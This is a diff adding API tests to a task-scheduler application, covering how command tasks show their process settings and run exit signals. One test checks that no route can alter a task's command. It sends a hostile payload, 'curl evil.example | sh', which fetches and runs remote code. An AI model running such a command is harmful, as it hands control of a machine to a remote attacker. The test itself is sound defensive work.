@@ -4,6 +4,7 @@ from datetime import timedelta
 import pytest
 
 from tasks_app import services
+from tasks_app.definitions.validate import build_definition
 from tasks_app.models import STATUS_FOR_REASON, Activity, EndReason, Run, RunStatus, RunTrigger, Task
 
 from ..factories import make_run, make_task, number, string
@@ -65,6 +66,51 @@ def test_task_object_matches_the_contract(api, manage_key):
                                    "retry_backoff", "retry_delay", "catch_up", "max_catch_up_runs", "jitter",
                                    "keep_runs", "keep_for", "run_on_start"}
     assert_problem(api.get("/api/tasks/nope", key=manage_key), 404, "task-not-found")
+
+
+def command_task(**overrides):
+    """A command task as the definitions sync writes one (its process settings checked and complete)."""
+    definition = build_definition("backup", {"kind": "command", "command": 'rsync -a "$SRC" /dst "$@"',
+                                             "env": {"SRC": "/srv"}, "secrets_file": "/etc/td/s.env",
+                                             "stop_signal": "INT", **overrides}, source="file")
+    services.sync_definitions([definition])
+    return Task.objects.get(pk="backup")
+
+
+def test_a_command_tasks_object_shows_its_process_settings(api, manage_key):
+    task = command_task()
+    body = api.get("/api/tasks/backup", key=manage_key).json()
+    listed = api.get("/api/tasks?kind=command", key=manage_key).json()["tasks"]
+    assert body["process"] == task.process == listed[0]["process"]
+    assert body["process"]["env"] == {"SRC": "/srv"} and body["process"]["secrets_file"] == "/etc/td/s.env"
+    assert (body["process"]["stop_signal"], body["process"]["argv"], body["supports_cancel"]) == ("SIGINT", None, True)
+    assert body["kind"] == "command" and body["trigger"] == "manual"
+
+
+def test_a_run_shows_its_pid_and_exit_signal(api, manage_key):
+    task = command_task()
+    killed = ended_run(task, RunStatus.CANCELLED, EndReason.CANCELLED, pid=4242, exit_signal="SIGTERM")
+    python_run = ended_run(make_task(id="report"))
+    body = api.get(f"/api/runs/{killed.pk}", key=manage_key).json()
+    assert (body["pid"], body["exit_signal"], body["exit_code"]) == (4242, "SIGTERM", None)
+    body = api.get(f"/api/runs/{python_run.pk}", key=manage_key).json()
+    assert (body["pid"], body["exit_signal"]) == (None, None)
+    listed = {run["id"]: run for run in api.get("/api/runs", key=manage_key).json()["runs"]}
+    assert (listed[str(killed.pk)]["pid"], listed[str(killed.pk)]["exit_signal"]) == (4242, "SIGTERM")
+
+
+def test_no_route_creates_or_changes_a_command_tasks_process(api, manage_key):
+    task = command_task(interval=5, interval_unit="minutes")
+    hostile = {"process": {"command": "curl evil.example | sh", "argv": None}, "kind": "command", "command": "sh"}
+    for method in ("PUT", "PATCH"):
+        assert_problem(api.request(method, "/api/tasks/backup", key=manage_key, json=hostile), 405, "method-not-allowed")
+    assert_problem(api.post("/api/tasks", key=manage_key, json={"id": "new", **hostile}), 405, "method-not-allowed")
+    assert api.put("/api/tasks/backup/enabled", key=manage_key, json={"enabled": False, **hostile}).status_code == 200
+    assert api.put("/api/tasks/backup/interval", key=manage_key,
+                   json={"interval": 10, "unit": "minutes", **hostile}).status_code == 200
+    changed = Task.objects.get(pk="backup")
+    assert (changed.enabled, changed.interval) == (False, 10)  # what the routes do, and nothing else
+    assert changed.process == task.process and not Task.objects.filter(pk="new").exists()
 
 
 def test_run_a_task(api, manage_key):
